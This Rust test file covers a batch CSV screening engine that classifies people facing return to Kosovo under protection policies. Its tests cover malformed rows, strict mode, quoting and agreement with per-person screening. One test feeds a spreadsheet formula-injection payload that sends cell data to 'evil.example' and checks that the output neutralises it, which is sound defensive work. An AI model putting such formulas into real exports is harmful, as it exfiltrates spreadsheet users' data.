//! Batch screening on real files: malformed rows, strict mode, households whose rows are far
//! apart (also across the blocks the reader cuts), quoting, and arbitrary input that must not
//! panic. The batch path must agree with the one-person-at-a-time path on every row.

mod common;

use drom_screening_engine::batch::{BatchError, BatchOptions, INPUT_COLUMNS, screen_csv};
use drom_screening_engine::{Fact, PersonFacts, ReturnType, Tri};
use proptest::prelude::*;
use std::path::PathBuf;
use std::sync::atomic::{AtomicU32, Ordering};

struct TempDir(PathBuf);

impl TempDir {
    fn new() -> TempDir {
        static N: AtomicU32 = AtomicU32::new(0);
        let p = std::env::temp_dir().join(format!(
            "drom-screening-test-{}-{}",
            std::process::id(),
            N.fetch_add(1, Ordering::SeqCst)
        ));
        std::fs::create_dir_all(&p).unwrap();
        TempDir(p)
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn opts(strict: bool) -> BatchOptions {
    BatchOptions { strict, today: "2026-11-22".parse().unwrap() }
}

/// Writes `csv` to a file, screens the file into another file, and reads the result back.
fn screen_file(policy: &str, csv: &str, strict: bool) -> Result<Vec<csv::StringRecord>, BatchError> {
    let dir = TempDir::new();
    let (input, output) = (dir.0.join("list.csv"), dir.0.join("out.csv"));
    std::fs::write(&input, csv).unwrap();
    let s = common::screener(policy);
    let out = std::fs::File::create(&output).unwrap();
    screen_csv(s, std::fs::File::open(&input).unwrap(), out, &opts(strict), &mut |_| {})?;
    let mut r = csv::Reader::from_path(&output).unwrap();
    assert_eq!(
        r.headers().unwrap().iter().collect::<Vec<_>>(),
        ["request_id", "household_id", "outcome", "policy", "rules", "unknown", "explanation"]
    );
    Ok(r.records().map(Result::unwrap).collect())
}

const HEADER: &str = "request_id,household_id,relation,given_name,family_name,date_of_birth,sex,community,municipality_of_origin,return_type,informed_consent,mixed_marriage,mixed_ethnicity,perceived_regime_association,serious_protection_risk,severe_illness_untreatable,severe_mental_illness_untreatable,severe_disability,caregiver_for,elderly_without_support,trafficking_victim,best_interests_determination,host_note";

/// A row with every fact "no" unless `facts` says otherwise (`column=value`).
fn row(id: &str, household: &str, community: &str, municipality: &str, facts: &[(&str, &str)]) -> String {
    let mut values: Vec<String> = INPUT_COLUMNS.iter().map(|_| String::new()).collect();
    let set = |values: &mut Vec<String>, k: &str, v: &str| {
        let i = INPUT_COLUMNS.iter().position(|c| *c == k).unwrap();
        values[i] = v.to_string();
    };
    for c in &INPUT_COLUMNS[10..] {
        set(&mut values, c, "no");
    }
    for (k, v) in [
        ("request_id", id),
        ("household_id", household),
        ("relation", "head"),
        ("given_name", "Sabit"),
        ("family_name", "Berisha"),
        ("date_of_birth", "1980-05"),
        ("sex", "male"),
        ("community", community),
        ("municipality_of_origin", municipality),
        ("return_type", "forced"),
        ("caregiver_for", ""),
    ] {
        set(&mut values, k, v);
    }
    for (k, v) in facts {
        set(&mut values, k, v);
    }
    let mut line = values
        .iter()
        .map(|v| if v.contains([',', '"', '\n']) { format!("\"{}\"", v.replace('"', "\"\"")) } else { v.clone() })
        .collect::<Vec<_>>()
        .join(",");
    line.push_str(",extra column ignored\n");
    line
}

#[test]
fn a_list_with_malformed_rows_and_scattered_households() {
    let mut csv = format!("{HEADER}\n");
    for r in [
        row("R1", "H1", "albanian", "PRISHTINË", &[]),
        row("R2", "", "roma", "Приштина", &[]),
        row("R3", "H2", "ashkali", "Fushë Kosovë", &[]),
        row("R4", "H1", "albanian", "Priština", &[("severe_mental_illness_untreatable", "yes")]),
        row("R5", "", "martian", "Prizren", &[]),
        row("R6", "", "albanian", "Atlantis", &[]),
        row("R7", "", "albanian", "Prizren", &[("date_of_birth", "2001-02-29")]),
        row("R8", "", "albanian", "Prizren", &[("mixed_marriage", "maybe")]),
        row("R9", "", "albanian", "Prizren", &[("caregiver_for", "R404")]),
        row("R10", "H2", "albanian", "gjilan", &[]),
        row("R1", "", "albanian", "Prizren", &[]),
        row("R12", "", "albanian", "Prizren", &[("return_type", "voluntary"), ("informed_consent", "")]),
        row("R13", "", "albanian", "Prizren", &[("caregiver_for", "R14")]),
        row("R14", "", "albanian", "Prizren", &[("severe_disability", "YES")]),
        row("R15", "", "albanian", "Prizren", &[("date_of_birth", "2030")]),
        row("R16", "H1", "albanian", "Prizren", &[("relation", "child"), ("best_interests_determination", "yes")]),
    ] {
        csv.push_str(&r);
    }
    let out = screen_file("unmik-2004", &csv, false).unwrap();
    let got: Vec<(&str, &str, &str)> = out.iter().map(|r| (&r[0], &r[2], &r[6])).collect();
    let expect = [
        ("R1", "protected", "household member R4 is protected"),
        ("R2", "protected", "community roma"),
        ("R3", "protected", "community ashkali"),
        ("R4", "protected", "severe_mental_illness_untreatable yes"),
        ("R5", "needs_assessment", "community: 'martian' is not a known community"),
        ("R6", "needs_assessment", "municipality_of_origin: 'Atlantis' is not a known municipality"),
        ("R7", "needs_assessment", "date_of_birth: 2001-02-29 is not a date"),
        ("R8", "needs_assessment", "mixed_marriage: 'maybe' is not yes, no or unknown"),
        ("R9", "needs_assessment", "caregiver_for: 'R404' names no row of the list"),
        ("R10", "protected", "household member R3 is protected"),
        ("R1", "needs_assessment", "request_id: 'R1' is also the request id of row 1"),
        ("R12", "needs_assessment", "voluntary return without a recorded informed consent"),
        ("R13", "protected", "cares for R14 (severe_disability yes)"),
        ("R14", "protected", "severe disability"),
        ("R15", "needs_assessment", "date_of_birth: 2030 lies in the future"),
        ("R16", "no_bar_found", "family unity not applied: a best-interests determination is recorded"),
    ];
    assert_eq!(got.len(), expect.len());
    for ((id, outcome, text), (eid, eoutcome, etext)) in got.iter().zip(expect) {
        assert_eq!((*id, *outcome), (eid, eoutcome), "{text}");
        assert!(text.contains(etext), "{id}: '{text}' should contain '{etext}'");
    }
    assert_eq!(&out[0][1], "H1");
    assert_eq!(&out[0][4], "family-unity");
    assert_eq!(&out[3][4], "severe-mental-illness");
    assert_eq!(&out[11][5], "informed_consent");
}

#[test]
fn strict_mode_stops_at_the_first_malformed_row_and_writes_nothing() {
    let mut csv = format!("{HEADER}\n");
    csv.push_str(&row("R1", "", "albanian", "Prizren", &[]));
    csv.push_str(&row("R2", "", "albanian", "Prizren", &[("caregiver_for", "nobody")]));
    csv.push_str(&row("R3", "", "albanian", "Prizren", &[("sex", "robot")]));
    let s = common::screener("unmik-2004");
    let mut out: Vec<u8> = Vec::new();
    let e = screen_csv(s, csv.as_bytes(), &mut out, &opts(true), &mut |_| {}).unwrap_err();
    match e {
        BatchError::Row { row, line, field, reason } => {
            assert_eq!((row, line, field.as_str()), (2, 3, "caregiver_for"), "{reason}");
        }
        other => panic!("expected a row error, got {other}"),
    }
    assert!(out.is_empty(), "strict mode wrote {} bytes", out.len());
    // The same list without strict mode decides every row.
    let out = screen_file("unmik-2004", &csv, false).unwrap();
    assert_eq!(out.len(), 3);
    assert!(out[2][6].contains("sex: 'robot' is not one of"), "{}", &out[2][6]);
}

#[test]
fn bad_headers_are_refused() {
    let s = common::screener("unmik-2004");
    for (csv, expect) in [
        ("", "empty"),
        ("request_id,household_id\nR1,H1\n", "missing column(s) relation"),
        (&*format!("{HEADER},request_id\n"), "appears twice"),
    ] {
        let e = screen_csv(s, csv.as_bytes(), Vec::new(), &opts(false), &mut |_| {}).unwrap_err();
        assert!(matches!(e, BatchError::Header(_)), "{e}");
        assert!(e.to_string().contains(expect), "{e}");
    }
}

#[test]
fn quoting_bom_and_crlf_are_read_and_written_back() {
    let mut csv = format!("\u{feff}{HEADER}\r\n");
    csv.push_str(&row("R,1", "H \"one\"", "serb", "Graçanicë", &[("given_name", "Line\nbreak")]).replace('\n', "\r\n"));
    csv.push_str(&row("R2", "H \"one\"", "albanian", "Gjilan", &[]));
    let out = screen_file("unmik-2004", &csv, false).unwrap();
    assert_eq!(out.len(), 2);
    assert_eq!(&out[0][0], "R,1");
    assert_eq!(&out[0][1], "H \"one\"");
    assert_eq!(&out[1][2], "protected");
    assert!(out[1][6].contains("household member R,1 is protected"), "{}", &out[1][6]);
}

#[test]
fn echoed_ids_a_spreadsheet_would_run_are_neutralised() {
    let mut csv = format!("{HEADER}\n");
    csv.push_str(&row("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"R1\")", "+H1", "albanian", "Prizren", &[]));
    csv.push_str(&row("-2+3", "@SUM(A1)", "albanian", "Prizren", &[]));
    csv.push_str(&row("R3", "H-3", "albanian", "Prizren", &[]));
    let out = screen_file("unmik-2004", &csv, false).unwrap();
    let ids: Vec<(&str, &str)> = out.iter().map(|r| (&r[0], &r[1])).collect();
    assert_eq!(
        ids,
        [
            ("'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"R1\")", "'+H1"),
            ("'-2+3", "'@SUM(A1)"),
            // Only the first character matters: ids with a sign inside stay as they are.
            ("R3", "H-3"),
        ]
    );
    // Every row is still decided as its facts say.
    assert!(out.iter().all(|r| &r[2] == "no_bar_found"), "{out:?}");
}

/// People for the agreement test: a few thousand households, members scattered, names with
/// quotes and line breaks, so the reader's blocks cut through households and quoted fields.
fn many(n: usize) -> Vec<PersonFacts> {
    let communities = ["albanian", "roma", "ashkali", "serb", "bosniak", "turkish", "gorani", ""];
    let places = ["Prishtinë", "Zvečan", "novo brdo", "Prizren", "Mamushë", ""];
    let tris = [Tri::No, Tri::No, Tri::No, Tri::Yes, Tri::Unknown];
    let mut x: u64 = 7;
    let mut next = |k: usize| {
        x = x.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
        ((x >> 33) % k as u64) as usize
    };
    (0..n)
        .map(|i| {
            let mut p = PersonFacts {
                request_id: format!("R{i}"),
                household_id: (next(4) > 0).then(|| format!("H{}", next(n / 3 + 1))),
                given_name: if i % 97 == 0 { "Name, with \"quotes\"\nand a line break".into() } else { "Drita".into() },
                family_name: "Gashi-Krasniqi-Berisha-Hoxha-Kastrati-Rexhepi-Hasani-Kryeziu".into(),
                community: Some(communities[next(communities.len())].to_string()).filter(|c| !c.is_empty()),
                municipality_of_origin: Some(places[next(places.len())].to_string()).filter(|c| !c.is_empty()),
                return_type: [Some(ReturnType::Forced), Some(ReturnType::Forced), Some(ReturnType::Voluntary), None]
                    [next(4)],
                caregiver_for: (next(20) == 0).then(|| format!("R{}", next(n))),
                ..PersonFacts::default()
            };
            for f in Fact::ALL {
                p.set_fact(*f, tris[next(tris.len())]);
            }
            p
        })
        .collect()
}

fn to_csv(people: &[PersonFacts]) -> String {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(INPUT_COLUMNS).unwrap();
    let t = |v: Tri| if v == Tri::Unknown { String::new() } else { v.code().to_string() };
    for p in people {
        w.write_record([
            p.request_id.clone(),
            p.household_id.clone().unwrap_or_default(),
            String::new(),
            p.given_name.clone(),
            p.family_name.clone(),
            String::new(),
            String::new(),
            p.community.clone().unwrap_or_default(),
            p.municipality_of_origin.clone().unwrap_or_default(),
            p.return_type.map(|r| r.code().to_string()).unwrap_or_default(),
            t(p.informed_consent),
            t(p.mixed_marriage),
            t(p.mixed_ethnicity),
            t(p.perceived_regime_association),
            t(p.serious_protection_risk),
            t(p.severe_illness_untreatable),
            t(p.severe_mental_illness_untreatable),
            t(p.severe_disability),
            p.caregiver_for.clone().unwrap_or_default(),
            t(p.elderly_without_support),
            t(p.trafficking_victim),
            t(p.best_interests_determination),
        ])
        .unwrap();
    }
    String::from_utf8(w.into_inner().unwrap()).unwrap()
}

#[test]
fn the_batch_agrees_with_screening_people_one_list_at_a_time() {
    // Over 5 MB: more than one block of the reader.
    let people = many(40_000);
    let csv = to_csv(&people);
    assert!(csv.len() > 5 << 20, "{}", csv.len());
    for policy in ["unmik-2004", "unhcr-2006"] {
        let s = common::screener(policy);
        let decisions = s.screen_people(&people);
        let out = screen_file(policy, &csv, false).unwrap();
        assert_eq!(out.len(), people.len());
        let mut differ = 0;
        for (d, r) in decisions.iter().zip(&out) {
            assert_eq!(d.request_id, &r[0]);
            if d.outcome.code() != &r[2] || d.explanation.replace('\n', " ") != r[6] {
                differ += 1;
                assert!(differ < 5, "{}: {} '{}' vs {} '{}'", d.request_id, d.outcome, d.explanation, &r[2], &r[6]);
            }
        }
        assert_eq!(differ, 0);
        let outcomes: std::collections::HashSet<&str> = out.iter().map(|r| &r[2]).collect();
        assert_eq!(outcomes.len(), 3, "the list exercises every outcome");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 200, ..ProptestConfig::default() })]

    /// No input panics: arbitrary bytes after a valid header, and arbitrary field values.
    #[test]
    fn arbitrary_input_never_panics(body in prop::collection::vec(any::<u8>(), 0..600), fields in prop::collection::vec(".{0,12}", 22)) {
        let s = common::screener("unmik-2004");
        let mut input = format!("{HEADER}\n").into_bytes();
        input.extend_from_slice(&body);
        let _ = screen_csv(s, input.as_slice(), Vec::new(), &opts(false), &mut |_| {});
        let _ = screen_csv(s, body.as_slice(), Vec::new(), &opts(true), &mut |_| {});
        let mut w = csv::Writer::from_writer(Vec::new());
        w.write_record(INPUT_COLUMNS).unwrap();
        w.write_record(&fields).unwrap();
        let text = w.into_inner().unwrap();
        let mut out = Vec::new();
        let summary = screen_csv(s, text.as_slice(), &mut out, &opts(false), &mut |_| {}).unwrap();
        prop_assert_eq!(summary.rows, 1);
        prop_assert_eq!(String::from_utf8(out).unwrap().lines().count() >= 2, true);
    }
}
